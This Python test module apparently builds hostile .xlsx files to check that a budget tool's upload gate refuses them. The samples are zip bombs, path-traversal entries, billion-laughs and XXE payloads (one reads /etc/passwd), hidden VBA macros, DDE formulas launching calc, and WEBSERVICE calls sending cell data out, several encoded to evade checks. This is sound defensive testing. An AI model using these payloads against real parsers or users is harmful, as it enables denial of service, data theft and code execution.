"""Hostile and damaged .xlsx files, each built in memory when asked for, with a part of the reason for which it must be refused."""

from __future__ import annotations

import copy
import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from openpyxl.utils import get_column_letter

from budget_model.errors import WorkbookError
from budget_model.upload.gate import check_upload

_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LINK = f'xmlns:r="{_OFFICE}"'
_RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_START = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_SHEET = "xl/worksheets/sheet1.xml"
_BOOK = "xl/workbook.xml"
_TYPES = "[Content_Types].xml"
_BOOK_RELATIONS = "xl/_rels/workbook.xml.rels"
_EXTRA_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
_MACROS = "application/vnd.ms-office.vbaProject"
_MEBIBYTE = 1 << 20

Parts = dict[str, str | bytes]


@dataclass(frozen=True)
class Hostile:
    """A file that must be refused: a part of the reason given, and how to build it."""

    reason: str
    build: Callable[[], bytes]


def refusal(path: Path) -> str:
    """Return the reason for which the gate refuses an upload, '' where it takes it."""
    try:
        check_upload(path.read_bytes(), "upload.xlsx")
    except WorkbookError as error:
        return str(error)
    return ""


def sheet(cells: str = '<row r="1"><c r="A1"><v>1</v></c></row>', before: str = '<dimension ref="A1"/>', after: str = "") -> str:
    """Return the XML of a worksheet."""
    return f"{_START}<worksheet {_MAIN} {_LINK}>{before}<sheetData>{cells}</sheetData>{after}</worksheet>"


def book(sheets: str = '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>', names: str = "", doctype: str = "") -> str:
    """Return the XML of xl/workbook.xml."""
    return f"{_START}{doctype}<workbook {_MAIN} {_LINK}><sheets>{sheets}</sheets>{names}</workbook>"


def plain() -> Parts:
    """Return the parts of the smallest workbook, which is accepted."""
    kinds = {"workbook": _BOOK, "worksheet": _SHEET, "styles": "xl/styles.xml", "sharedStrings": "xl/sharedStrings.xml"}
    overrides = "".join(
        f'<Override PartName="/{path}" ContentType="{_TYPE}.{"sheet.main" if kind == "workbook" else kind}+xml"/>'
        for kind, path in kinds.items()
    )
    defaults = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    links = (
        ("rId1", "worksheet", "worksheets/sheet1.xml"),
        ("rId2", "styles", "styles.xml"),
        ("rId3", "sharedStrings", "sharedStrings.xml"),
    )
    return {
        _TYPES: f'{_START}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{defaults}{overrides}</Types>',
        "_rels/.rels": relations(("rId1", "officeDocument", _BOOK)),
        _BOOK: book(),
        _BOOK_RELATIONS: relations(*links),
        "xl/styles.xml": _styles(1),
        "xl/sharedStrings.xml": f"{_START}<sst {_MAIN}><si><t>text</t></si></sst>",
        _SHEET: sheet(),
    }


def relations(*links: tuple[str, str, str], mode: str = "") -> str:
    """Return the XML of a list of relationships, each with its identity, kind and target."""
    listed = "".join(f'<Relationship Id="{name}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>' for name, kind, target in links)
    return f"{_START}<Relationships {_RELATIONS}>{listed}</Relationships>"


def packed(parts: Parts | None = None, more: Parts | None = None) -> bytes:
    """Return a zip file of the smallest workbook with some parts replaced, and then others added."""
    target = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        warnings.simplefilter("ignore", UserWarning)  # of a name that is there twice
        for changed in (plain() | (parts or {}), more or {}):
            for name, content in changed.items():
                archive.writestr(name, content)
    return target.getvalue()


def _styles(formats: int) -> str:
    listed = "".join(f'<xf numFmtId="{number}"/>' for number in range(formats))
    return f"{_START}<styleSheet {_MAIN}><cellXfs>{listed}</cellXfs></styleSheet>"


def _formula(formula: str) -> bytes:
    return packed({_SHEET: sheet(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>')})


def _text_in_b2(text: str) -> bytes:
    return packed({_SHEET: sheet(f'<row r="2"><c r="B2" t="inlineStr"><is><t>{text}</t></is></c></row>')})


def _long_formulas() -> str:
    """Return formulas of 30,000 characters, in each of which `CALL` may begin anywhere; the last one calls."""
    return "".join(f"{'CALL.' * 6_000}{number}</f><f>" for number in range(50)) + "WEBSERVICE(A1)"


def _defined(name: str, content: str) -> bytes:
    return packed({_BOOK: book(names=f'<definedNames><definedName name="{name}">{content}</definedName></definedNames>')})


def _strings(doctype: str, text: str) -> bytes:
    return packed({"xl/sharedStrings.xml": f"{_START}{doctype}<sst {_MAIN}><si><t>{text}</t></si></sst>"})


def _long_part(mebibytes: int) -> bytes:
    """Return a workbook with one string of so many MiB, written without holding it."""
    target = io.BytesIO(packed())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive, archive.open("xl/strings.xml", "w") as part:
        part.write(f"{_START}<sst {_MAIN}><si><t>".encode())
        for _ in range(mebibytes):
            part.write(b"A" * _MEBIBYTE)
        part.write(b"</t></si></sst>")
    return target.getvalue()


def _declared_smaller() -> bytes:
    """Return a bomb of 64 MiB that declares 1,000 bytes, in its own header and in the directory."""
    content = bytearray(_long_part(64))
    true_size = zipfile.ZipFile(io.BytesIO(content)).getinfo("xl/strings.xml").file_size
    told, lie = struct.pack("<L", true_size), struct.pack("<L", 1_000)
    assert content.count(told) >= 2
    return bytes(content.replace(told, lie))


def _overlapping() -> bytes:
    """Return a workbook in which 300 names share the bytes of one part."""
    target = io.BytesIO(packed())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/strings.xml", b"A" * 100_000)
        shared = archive.getinfo("xl/strings.xml")
        for number in range(300):
            again = copy.copy(shared)
            again.filename = f"xl/strings{number}.xml"
            archive.filelist.append(again)
    return target.getvalue()


def _encrypted() -> bytes:
    """Return a workbook whose parts are marked as encrypted, in their own headers and in the directory."""
    content = bytearray(packed())
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(signature)
        while start >= 0:
            content[start + flags] |= 1
            start = content.find(signature, start + 4)
    return bytes(content)


def _many_rows() -> bytes:
    return packed({_SHEET: sheet("".join(f'<row r="{row}"><c r="A{row}"><v>1</v></c></row>' for row in range(1, 1_048_577)))})


def _many_sheets(parts: int) -> bytes:
    """Return a workbook of 5,000 sheets, each of which is one of so many parts."""
    names = [f"sheet{number + 1}" for number in range(parts)]
    listed = "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="{names[number % parts]}"/>' for number in range(1, 5_001))
    links = relations(*((name, "worksheet", f"worksheets/{name}.xml") for name in names))
    return packed({_BOOK: book(listed), _BOOK_RELATIONS: links} | {f"xl/worksheets/{name}.xml": sheet() for name in names})


def _many_empty_cells() -> bytes:
    """Return a workbook with a format in 60 cells of each column, as no program writes it for the rows that ours has."""
    columns = [get_column_letter(number) for number in range(1, 16_385)]
    rows = ("".join(f'<c r="{column}{row}" s="1"/>' for column in columns) for row in range(1, 61))
    return packed({_SHEET: sheet("".join(f'<row r="{row}">{cells}</row>' for row, cells in enumerate(rows, 1)))})


def _hidden_macros() -> bytes:
    """Return a workbook with macros under a plain name: only its type tells what it is."""
    typed = str(plain()[_TYPES]).replace("</Types>", f'<Override PartName="/xl/notes.xml" ContentType="{_MACROS}"/></Types>')
    return packed({_TYPES: typed}, {"xl/notes.xml": "<a/>"})


def _laughs() -> bytes:
    levels = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))
    return _strings(f'<!DOCTYPE sst [<!ENTITY a0 "lol">{levels}]>', "&a9;")


def _quadratic() -> bytes:
    return _strings(f'<!DOCTYPE sst [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 50_000)


def _merged(reference: str) -> bytes:
    return packed({_SHEET: sheet(after=f'<mergeCells count="1"><mergeCell ref="{reference}"/></mergeCells>')})


def _external_link() -> bytes:
    parts = {"xl/externalLinks/externalLink1.xml": f"{_START}<externalLink {_MAIN}/>"}
    return packed({_BOOK_RELATIONS: relations(("rId1", "externalLink", "externalLinks/externalLink1.xml"))}, parts)


def _something_else() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("letter.txt", "Dear Board")
    return target.getvalue()


HOSTILE: dict[str, Hostile] = {
    "empty file": Hostile("is empty", bytes),
    "not a zip": Hostile("not an Excel workbook", lambda: b"month,dollars\n2019-01,5\n"),
    "zip of something else": Hostile("not an Excel workbook", _something_else),
    "old .xls": Hostile("old .xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)),
    "13 MB": Hostile("more than 12 MB", lambda: packed() + bytes(13_000_000)),
    "truncated": Hostile("incomplete or damaged", lambda: packed()[:-200]),
    "damaged part": Hostile(
        "the file is damaged", lambda: packed().replace(b"PK\x03\x04", b"PK\x03\x05", 2).replace(b"PK\x03\x05", b"PK\x03\x04", 1)
    ),
    "encrypted": Hostile("encrypted", _encrypted),
    "bomb of 1 GiB": Hostile("unpacks to more than 150 MB", lambda: _long_part(1_024)),
    "bomb of 100 MiB": Hostile("more than 200 times", lambda: _long_part(100)),
    "long string": Hostile("longer than 32,767 characters", lambda: _strings("", "A" * 900_000)),
    "declared size is a lie": Hostile("size or content that it declares", _declared_smaller),
    "overlapping entries": Hostile("overlap", _overlapping),
    "part outside the file": Hostile("points outside", lambda: packed(more={"../../evil.xml": "<a/>"})),
    "absolute part": Hostile("points outside", lambda: packed(more={"/etc/cron.d/evil": "<a/>"})),
    "part with a backslash": Hostile("points outside", lambda: packed(more={"xl\\..\\evil.xml": "<a/>"})),
    "part there twice": Hostile("there twice", lambda: packed(more={_SHEET: sheet()})),
    "5,000 sheets": Hostile("more than 400 parts", lambda: _many_sheets(5_000)),
    "5,000 sheets of one part": Hostile("more than 120 sheets", lambda: _many_sheets(1)),
    "1,048,576 rows": Hostile("beyond 20,000 rows", _many_rows),
    "cell at XFD1048576": Hostile("beyond", lambda: packed({_SHEET: sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')})),
    "cell far to the right": Hostile("beyond 400 columns", lambda: packed({_SHEET: sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>')})),
    "cell far to the right, in other quotes": Hostile(
        "without an address", lambda: packed({_SHEET: sheet("<row r='1'><c r='XFD1'/></row>")})
    ),
    "empty cells far to the right, too many of them": Hostile("formats more than 900,000 cells", _many_empty_cells),
    "merge of the whole sheet": Hostile("beyond 20,000 rows", lambda: _merged("A1:XFD1048576")),
    "merge of two million cells": Hostile("merges or links more than 10,000", lambda: _merged("A1:CV20000")),
    "link over the whole sheet": Hostile(
        "beyond", lambda: packed({_SHEET: sheet(after='<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>')})
    ),
    "200,000 links": Hostile(
        "more than 12,000 links",
        lambda: packed(more={_EXTRA_RELATIONS: relations(*((f"rId{number}", "worksheet", f"{number}.xml") for number in range(200_000)))}),
    ),
    "million cell formats": Hostile(
        "more than 2,000 cell formats",
        lambda: packed({"xl/styles.xml": _styles(1_000_000)}),
    ),
    "nested 100,000 deep": Hostile("nested", lambda: packed({_SHEET: sheet("<a>" * 100_000 + "</a>" * 100_000)})),
    "billion laughs": Hostile("document type", _laughs),
    "quadratic blow-up": Hostile("document type", _quadratic),
    "file read by an entity": Hostile("document type", lambda: _strings('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;")),
    "parameter entity": Hostile(
        "document type", lambda: packed({_BOOK: book(doctype='<!DOCTYPE a [<!ENTITY % x SYSTEM "http://example.org/x.dtd"> %x;]>')})
    ),
    "UTF-16 part": Hostile("not in UTF-8", lambda: packed({_SHEET: sheet().replace("UTF-8", "UTF-16").encode("utf-16")})),
    "UTF-7 part": Hostile("not in UTF-8", lambda: packed({_SHEET: sheet().replace("UTF-8", "UTF-7")})),
    "VBA part": Hostile("macros", lambda: packed(more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "VBA part under another name": Hostile("macros", _hidden_macros),
    "VBA part of another type": Hostile(
        "macros", lambda: packed({_BOOK_RELATIONS: relations(("rId9", "vbaProject", "notes.xml"))}, {"xl/notes.xml": "<a/>"})
    ),
    "macro sheet": Hostile("macros", lambda: packed(more={"xl/macrosheets/sheet1.xml": sheet()})),
    "external link": Hostile("links to other workbooks", _external_link),
    "embedded object": Hostile("embedded objects", lambda: packed(more={"xl/embeddings/oleObject1.bin": b"\xd0\xcf"})),
    "picture from the web": Hostile(
        "the sheet 'Sheet1' shows something from outside",
        lambda: packed(more={_EXTRA_RELATIONS: relations(("rId1", "image", "http://example.org/a.png"), mode=' TargetMode="External"')}),
    ),
    "picture from the web, written in codes": Hostile(
        "the sheet 'Sheet1' shows something from outside",
        lambda: packed(more={_EXTRA_RELATIONS: relations(("rId1", "image", "http://a.org/"), mode=' TargetMode="&#69;xternal"')}),
    ),
    "reference to another workbook": Hostile("a formula in Sheet1!A1 refers outside", lambda: _formula("[1]Sheet1!A1+1")),
    "reference to a file": Hostile("refers outside", lambda: _formula("'C:\\secret\\[a.xlsx]Sheet1'!A1")),
    "DDE formula": Hostile("a formula in Sheet1!A1 calls another program (DDE)", lambda: _formula("cmd|'/c calc'!A0")),
    "DDE formula written with codes": Hostile("character codes", lambda: _formula("cmd&#124;'/c calc'!A0")),
    "DDE formula between quotation marks": Hostile("DDE", lambda: _formula("'a\"b'!A1+cmd|'/c calc'!A0+'a\"b'!A1")),
    "WEBSERVICE formula": Hostile("calls WEBSERVICE(", lambda: _formula('_xlfn.WEBSERVICE("http://example.org/?"&amp;A1)')),
    "formulas that a careless pattern reads again and again": Hostile(
        "a formula in Sheet1!A1 calls WEBSERVICE(", lambda: _formula(_long_formulas())
    ),
    "formula after an instruction": Hostile("damaged", lambda: _formula("<?a?>WEBSERVICE(A1)")),
    "formula in CDATA": Hostile("document type", lambda: _formula("<![CDATA[WEBSERVICE(A1)]]>")),
    "formula after an element": Hostile("a formula in Sheet1!A1 has elements in it", lambda: _formula("<a/>WEBSERVICE(A1)")),
    "control character": Hostile("Sheet1!B2 holds a character that cannot be shown, after 'Caf'", lambda: _text_in_b2("Caf\x0be")),
    "control character written in codes": Hostile("Sheet1!B2 holds a character that cannot be shown", lambda: _text_in_b2("&#x1F;")),
    "formula as a defined name": Hostile("no valid name", lambda: _defined("=1+cmd|A0", "Sheet1!$A$1")),
    "DDE in a defined name": Hostile(
        "a formula in the name 'total' calls another program (DDE)", lambda: _defined("total", "cmd|'/c calc'!A0")
    ),
    "other workbook in a defined name": Hostile("refers outside", lambda: _defined("total", "[1]Sheet1!$A$1")),
}
